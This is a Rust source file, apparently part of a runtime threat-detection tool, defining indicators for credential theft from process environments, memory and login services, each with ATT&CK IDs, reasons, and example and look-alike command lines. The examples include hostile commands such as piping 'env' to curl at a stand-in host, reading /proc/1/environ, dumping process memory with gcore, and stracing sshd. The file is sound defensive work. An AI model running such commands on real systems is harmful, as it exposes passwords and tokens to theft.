//! Secrets in memory and environments.

use super::credentials::any_text;
use super::words::parts;
use super::{Finds, Indicator};
use crate::cmdline::NestedKind;

pub(super) const ROWS: &[Indicator] = &[
    Indicator {
        id: "environment-of-other-processes",
        finds: Finds::Command(&["cat", "strings", "xargs", "grep", "tr", "sed", "head", "cut"], |seen| {
            let all = seen.args().chain(seen.read());
            all.into_iter()
                .any(|text| text.starts_with("/proc/") && text.ends_with("/environ") && !text.contains("/self/"))
        }),
        weight: 50,
        techniques: &["T1552.007", "T1057"],
        reason: "It reads other processes' environments, where passwords and tokens are passed.",
        refuted_by: "Somebody debugged this container at this time.",
        example: &[("proc.cmdline", "cat /proc/1/environ")],
        look_alike: &[("proc.cmdline", "cat /proc/self/environ")],
    },
    Indicator {
        id: "environment-sent-away",
        finds: Finds::Command(&["env", "printenv", "set", "export", "cat"], |seen| {
            let dumps = seen.name != "cat" || any_text(seen, |text| text.ends_with("/environ"));
            dumps && seen.feeds(|next| matches!(next.family(), "curl" | "nc" | "wget" | "socat" | "telnet"))
        }),
        weight: 80,
        techniques: &["T1552.007", "T1041"],
        reason: "The environment, with the passwords and tokens in it, is sent over the network.",
        refuted_by: "Nothing that is known to be harmless does this.",
        example: &[("proc.cmdline", "sh -c env | curl -X POST --data-binary @- https://a.example/c")],
        look_alike: &[("proc.cmdline", "sh -c env | sort")],
    },
    Indicator {
        id: "environment-searched-for-secrets",
        finds: Finds::Command(&["grep", "egrep"], |seen| {
            let words = parts!["token", "secret", "passw", "aws", "key", "cred"];
            seen.fed_by(|c| matches!(c.program(), "env" | "printenv" | "set" | "export")) && seen.holds_any(words)
        }),
        weight: 45,
        techniques: &["T1552.007"],
        reason: "It looks through the environment for passwords and tokens.",
        refuted_by: "Somebody debugged this container's configuration at this time.",
        example: &[("proc.cmdline", "sh -c env | grep -iE token|secret")],
        look_alike: &[("proc.cmdline", "sh -c env | grep PATH")],
    },
    Indicator {
        id: "process-memory-dumped",
        finds: Finds::Command(&["gcore", "procdump", "gdb", "dd", "strings", "cat", "mimipenguin"], |seen| match seen
            .name
        {
            "gcore" | "procdump" | "mimipenguin" => true,
            "gdb" => seen.any_arg(|arg| arg.contains("dump memory") || arg.contains("gcore") || arg == "memory"),
            _ => any_text(seen, |text| text.contains("/proc/") && text.ends_with("/mem")),
        }),
        weight: 60,
        techniques: &["T1003.007"],
        reason: "A process's memory is written out, with whatever keys and passwords it holds.",
        refuted_by: "A developer who collected a core dump at this time.",
        example: &[("proc.cmdline", "gcore -o /tmp/d 812")],
        look_alike: &[("proc.cmdline", "gdb -p 4232")],
    },
    Indicator {
        id: "login-traced",
        finds: Finds::Command(&["strace", "ltrace", "gdb"], |seen| {
            seen.holds_any(parts!["sshd", "pidof ssh", "sudo", "login"])
                || seen.nested(&[NestedKind::Substitution], |c| c.arg_texts().any(|arg| arg.contains("sshd")))
        }),
        weight: 60,
        techniques: &["T1056", "T1003"],
        reason: "The login service is traced, which shows the passwords that people type.",
        refuted_by: "An administrator who debugged logins at this time.",
        example: &[("proc.cmdline", "sh -c strace -f -e trace=write -p $(pgrep -f sshd)")],
        look_alike: &[("proc.cmdline", "sh -c strace -f -p 812")],
    },
];
